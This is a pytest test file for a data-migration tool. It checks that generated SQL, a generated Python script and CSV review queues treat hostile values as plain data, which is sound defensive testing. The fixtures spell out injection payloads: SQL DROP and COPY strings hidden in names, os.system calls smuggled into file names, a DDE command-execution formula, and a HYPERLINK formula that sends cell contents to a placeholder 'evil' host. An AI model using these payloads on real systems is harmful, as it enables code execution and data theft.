"""Hostile values in everything a migration writes: SQL scripts (every dialect),
the standalone Python script, and the review queue a reviewer opens in a
spreadsheet. The generated DuckDB SQL and Python script are run for real; other
dialects are parsed back and their syntax trees compared with what was meant."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
import sqlglot
from sqlglot import exp
from taxops import escaping
from taxops.cli.main import main
from taxops.engines.python_script import python_script
from taxops.engines.sql_script import DIALECTS, migration_sql, split_statements
from taxops.migration.model import Action, Entry, MigrationMap, Mode

ROOT = Path(__file__).resolve().parents[2]

#: Names a table or column may really have; each must be quoted, never pasted.
NAMES = [
    "it's",
    'x"y',
    "a`b",
    "back\\slash",
    "semi;colon",
    "x'; DROP TABLE t; --",
    "*/ DROP TABLE t; /*",
    "-- comment",
    "ümlaut € 日本",
    "UPPER case",
    "$1",
]
#: Labels with quotes and SQL syntax (the ids of a published code list may hold anything).
LABELS = ["it's", 'say "hi"', "back\\slash", "x'); DROP TABLE t; --", "naïve", "a|b"]


def hostile_map() -> MigrationMap:
    """Each hostile label renamed to its upper-case twin; one sent to review."""
    entries = [
        Entry(label, Action.RENAME, Mode.DIRECT, (label.upper() + "!",)) for label in LABELS[:-1]
    ]
    entries.append(Entry(LABELS[-1], Action.SPLIT, Mode.REVIEW, ("a", "b's")))
    return MigrationMap("hostile", "1.0.0", "2.0.0", "single-label", tuple(entries))


def _tables(con: duckdb.DuckDBPyConnection) -> set[str]:
    return {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}


@pytest.mark.parametrize("name", NAMES)
def test_duckdb_sql_with_hostile_names_and_labels_does_only_what_it_says(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    columns = ["id", name, "text"]
    con = duckdb.connect()
    q = escaping.sql_identifier
    con.execute(f"CREATE TABLE {q(name)} (id INTEGER, {q(name)} VARCHAR, text VARCHAR)")
    rows = [(i, label, f"row {i}") for i, label in enumerate([*LABELS, "unknown", None], 1)]
    con.executemany(f"INSERT INTO {q(name)} VALUES (?, ?, ?)", rows)
    con.execute("CREATE TABLE t (keep INTEGER)")  # what an injected DROP would hit

    script = migration_sql(
        hostile_map(), dialect="duckdb", table=name, label_column=name, columns=columns
    )
    statements = split_statements(script)
    assert len(statements) == 3
    for sql in statements[:2]:
        con.execute(sql)
    [(adds_up,)] = con.execute(statements[2]).fetchall()

    assert adds_up is True
    assert _tables(con) == {name, "t", f"{name}_v2_0_0", f"{name}_review_v2_0_0"}
    migrated = con.execute(
        f"SELECT id, {q(name)} FROM {q(name + '_v2_0_0')} ORDER BY id"
    ).fetchall()
    assert migrated == [(i, label.upper() + "!") for i, label in enumerate(LABELS[:-1], 1)] + [
        (len(LABELS) + 2, None)
    ]
    review = con.execute(
        f"SELECT id, taxops_reason, taxops_candidates FROM {q(name + '_review_v2_0_0')} ORDER BY id"
    ).fetchall()
    assert review == [(len(LABELS), "split", "a|b's"), (len(LABELS) + 1, "unknown-label", None)]
    assert list(tmp_path.iterdir()) == []  # nothing written by a COPY ... TO


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", NAMES)
def test_every_dialect_parses_back_to_exactly_the_intended_statements(
    dialect: str, name: str
) -> None:
    script = migration_sql(
        hostile_map(),
        dialect=dialect,
        table=f"db.{name}",
        label_column=name,
        columns=["id", name],
    )
    trees = [t for t in sqlglot.parse(script, read=dialect) if t is not None]
    assert [type(t).__name__ for t in trees] == ["Create", "Create", "Select"]
    created = [t.this for t in trees[:2]]
    assert [(t.db, t.name) for t in created] == [
        ("db", f"{name}_v2_0_0"),
        ("db", f"{name}_review_v2_0_0"),
    ]
    # no statement hides anywhere: no DROP, COPY, INSERT, DELETE, UPDATE, ATTACH or PRAGMA node
    for tree in trees:
        for node in tree.walk():
            assert not isinstance(
                node, exp.Drop | exp.Copy | exp.Insert | exp.Delete | exp.Update | exp.Command
            ), node.sql(dialect)
    # every label reaches the script as one string literal, unchanged
    literals = {lit.this for lit in trees[0].find_all(exp.Literal) if lit.is_string}
    assert set(LABELS) <= literals
    # the header comments are one line each, and end at their line
    header = [line for line in script.splitlines() if line.startswith("--")]
    assert len(header) == 9


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--table", "tickets\nDROP TABLE t; --"),
        ("--table", "tickets\r\nSELECT 1"),
        ("--table", "a.b.c.d"),
        ("--table", "a..b"),
        ("--label-column", "intent\u202e"),
        ("--output-table", "out\x00"),
        ("--review-table", "\u2028"),
    ],
)
def test_what_cannot_be_a_name_is_refused_with_exit_2(
    option: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    args = {"--table": "tickets", "--label-column": "intent"} | {option: value}
    flat = [x for kv in args.items() for x in kv]
    columns = "id,text,intent" if option != "--label-column" else f"id,text,{value}"
    code = main(
        [
            "migration-script", "support-intents", "--repo", str(ROOT), "--from", "1.0.0",
            "--to", "2.0.0", "--dialect", "duckdb", *flat, "--columns", columns,
        ]
    )  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 2, out
    assert "Traceback" not in err and "DROP" not in out
    message, _, hint = err.partition("\n")
    assert message.startswith("taxops: ") and hint.strip().startswith("hint: ")


@pytest.mark.parametrize(
    "file_name",
    ["it's.csv", "x.csv'; COPY (SELECT 1) TO 'PWNED.csv'; --.csv", 'q"uote.csv', "back\\slash.csv"],
)
def test_like_reads_the_columns_of_the_file_it_names_and_nothing_else(
    file_name: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / file_name).write_text("id,text,intent\n1,a,billing.refund_status\n")
    code = main(
        [
            "migration-script", "support-intents", "--repo", str(ROOT), "--from", "1.0.0",
            "--to", "2.0.0", "--dialect", "duckdb", "--table", "tickets",
            "--label-column", "intent", "--like", file_name,
        ]
    )  # fmt: skip
    out, _ = capsys.readouterr()
    assert code == 0
    assert 't."id"' in out and 't."text"' in out
    assert sorted(p.name for p in tmp_path.iterdir()) == [file_name]


def test_like_on_a_missing_hostile_name_runs_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code = main(
        [
            "migration-script", "support-intents", "--repo", str(ROOT), "--from", "1.0.0",
            "--dialect", "duckdb", "--table", "t", "--label-column", "intent",
            "--like", "x.csv'; COPY (SELECT 1) TO 'PWNED.csv'; --",
        ]
    )  # fmt: skip
    assert code == 2
    assert list(tmp_path.iterdir()) == []


# --- the standalone Python script ----------------------------------------------------

OUTPUT_NAMES = [
    'x"""; import os; os.system("touch PWNED"); """.py',
    "x'''; open('PWNED', 'w'); '''.py",
    "x\n__import__('os').system('touch PWNED')\n.py",
    "x\\\n.py",
]


@pytest.mark.parametrize("output_name", OUTPUT_NAMES)
def test_python_script_name_is_never_code(
    output_name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    script = tmp_path / output_name
    code = main(
        [
            "migration-script", "support-intents", "--repo", str(ROOT), "--from", "1.0.0",
            "--to", "2.0.0", "--python", "-o", str(script),
        ]
    )  # fmt: skip
    capsys.readouterr()
    assert code == 0
    done = subprocess.run(
        [sys.executable, "-I", str(script), "--help"],
        check=False, capture_output=True, text=True, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "support-intents 1.0.0 to 2.0.0" in done.stdout
    assert not (tmp_path / "PWNED").exists()


def test_python_script_with_hostile_labels_migrates_them_as_data(tmp_path: Path) -> None:
    migration = hostile_map()
    migration = MigrationMap(
        'x"""\nimport os; os.system("touch PWNED")\n"""',
        "1.0.0\n#",
        "2.0.0'''",
        "single-label",
        migration.entries,
    )
    script = tmp_path / "migrate.py"
    script.write_text(python_script(migration), encoding="utf-8")
    source = tmp_path / "in.csv"
    with open(source, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["id", "label", "note"])
        for i, label in enumerate(LABELS, 1):
            writer.writerow([i, label, '=HYPERLINK("http://evil","x")' if i == 1 else "ok"])
        writer.writerow([99, "=cmd|' /C calc'!A0", "-2+3"])
    done = subprocess.run(
        [sys.executable, "-I", str(script), str(source), str(tmp_path / "out.csv"), "--label-column", "label"],
        check=False, capture_output=True, text=True, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "PWNED").exists()
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        out = list(csv.reader(f))
    assert [r[1] for r in out[1:]] == [label.upper() + "!" for label in LABELS[:-1]]
    assert out[1][2] == '=HYPERLINK("http://evil","x")'  # the dataset itself is untouched
    with open(tmp_path / "out.review.csv", newline="", encoding="utf-8") as f:
        review = list(csv.reader(f))
    assert [r[:3] for r in review[1:]] == [
        [str(len(LABELS)), "a|b", "ok"],
        ["99", "'=cmd|' /C calc'!A0", "'-2+3"],
    ]


# --- the review queue a reviewer opens in a spreadsheet ---------------------------------

#: (A cell starting with a carriage return is left out: DuckDB's CSV reader
#: takes the quoted CR for a line end; escaping.csv_cell's own test covers it.)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
]


def _write_dataset(path: Path, delimiter: str) -> list[list[str]]:
    rows = [["id", "text", "intent", "=header()"]]
    for i, formula in enumerate(FORMULAS, 1):
        rows.append([str(i), formula, "product.general_question", formula])  # review
        rows.append([str(100 + i), formula, "billing.refund_status", formula])  # migrated
    rows.append(["200", "unknown", formula, "x"])  # unknown label: its raw value is a formula
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return rows


@pytest.mark.parametrize(("suffix", "delimiter"), [(".csv", ","), (".tsv", "\t")])
def test_review_queue_cells_never_start_a_formula_and_the_dataset_is_untouched(
    suffix: str, delimiter: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / f"in{suffix}"
    rows = _write_dataset(source, delimiter)
    with open(source, "a", encoding="utf-8") as f:
        f.write(delimiter.join(["300", "=broken", "row", "x", "too many"]) + "\n")  # malformed
    out = tmp_path / f"out{suffix}"
    code = main(
        [
            "migrate", str(source), "--repo", str(ROOT), "--taxonomy", "support-intents",
            "--from", "1.0.0", "--to", "2.0.0", "--label-column", "intent", "-o", str(out),
        ]
    )  # fmt: skip
    capsys.readouterr()
    assert code == 0
    with open(tmp_path / f"out.review{suffix}", newline="", encoding="utf-8") as f:
        queue = list(csv.reader(f, delimiter=delimiter))
    for row in queue:
        for cell in row:
            assert not cell.startswith(escaping.FORMULA_START), (cell, row)
    assert queue[0][3] == "'=header()"
    texts = {row[1] for row in queue[1:] if row[1]}
    assert texts >= {escaping.csv_cell(f) for f in FORMULAS}
    # migrated rows keep every value exactly as it was
    with open(out, newline="", encoding="utf-8") as f:
        migrated = list(csv.reader(f, delimiter=delimiter))
    assert migrated[0] == rows[0]
    assert [r[1] for r in migrated[1:]] == FORMULAS
    assert [r[3] for r in migrated[1:]] == FORMULAS


def test_jsonl_review_queue_keeps_values_exactly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """JSON lines are no formula context (a reviewer's tool reads them as data):
    values stay byte for byte what they were."""
    source = tmp_path / "in.jsonl"
    lines = [
        {"id": i, "text": f, "intent": "product.general_question"} for i, f in enumerate(FORMULAS)
    ]
    source.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    code = main(
        [
            "migrate", str(source), "--repo", str(ROOT), "--taxonomy", "support-intents",
            "--from", "1.0.0", "--to", "2.0.0", "--label-column", "intent",
            "-o", str(tmp_path / "out.jsonl"),
        ]
    )  # fmt: skip
    capsys.readouterr()
    assert code == 0
    queue = [json.loads(x) for x in (tmp_path / "out.review.jsonl").read_text().splitlines()]
    assert [q["text"] for q in queue] == FORMULAS
